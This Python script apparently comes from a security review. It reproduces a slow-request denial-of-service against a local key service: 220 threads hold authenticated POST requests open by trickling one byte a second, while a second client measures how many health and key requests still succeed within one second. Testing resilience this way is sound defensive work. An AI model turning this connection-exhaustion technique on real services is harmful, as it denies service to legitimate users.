"""Security review 4, H3, tried as the review did: from one address
(127.0.0.2), 220 connections each hold a valid key request whose body
trickles in a byte a second, and reconnect at once when closed; meanwhile
another address (127.0.0.1) asks for /v1/health and fetches its key, each
on a new connection, and counts the answers that came within 1 s, during
the attack and after it. Prints one JSON object.

    python3 trickle-attack.py PORT < TOKENS

TOKENS: the attacker's sign-in token, then the honest client's, one per
line on standard input (never in argv, where other users can read them).
"""
import http.client
import json
import socket
import sys
import threading
import time

port = int(sys.argv[1])
attacker_token, honest_token = sys.stdin.read().split()
head = (f"POST /v1/keys/notes HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {attacker_token}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{").encode()
stopping = threading.Event()
held = [0]
lock = threading.Lock()


def attacker():
    while not stopping.is_set():
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=15, source_address=("127.0.0.2", 0)) as s:
                s.sendall(head)
                with lock:
                    held[0] += 1
                try:
                    while not stopping.wait(1):
                        s.sendall(b" ")
                finally:
                    with lock:
                        held[0] -= 1
        except OSError:
            time.sleep(0.01)


def ask(method, path, token=None):
    """True when the answer is 200 within 1 s, on a new connection from 127.0.0.1."""
    start = time.monotonic()
    try:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=1, source_address=("127.0.0.1", 0))
        headers = {"Authorization": "Bearer " + token} if token else {}
        connection.request(method, path, headers=headers)
        status = connection.getresponse().status
        connection.close()
        return status == 200 and time.monotonic() - start <= 1
    except OSError:
        return False


def honest(health, fetches):
    ok_health = sum(ask("GET", "/v1/health") for _ in range(health) if not time.sleep(0.05))
    ok_keys = sum(ask("POST", "/v1/keys/notes", honest_token) for _ in range(fetches) if not time.sleep(0.05))
    return {"health": ok_health, "health_of": health, "keys": ok_keys, "keys_of": fetches}


result = {"before": honest(10, 5)}
threads = [threading.Thread(target=attacker, daemon=True) for _ in range(220)]
for thread in threads:
    thread.start()
time.sleep(3)
result["held_at_start"] = held[0]
result["during"] = honest(40, 20)
result["held_at_end"] = held[0]
stopping.set()
time.sleep(2)
result["after"] = honest(10, 5)
print(json.dumps(result))
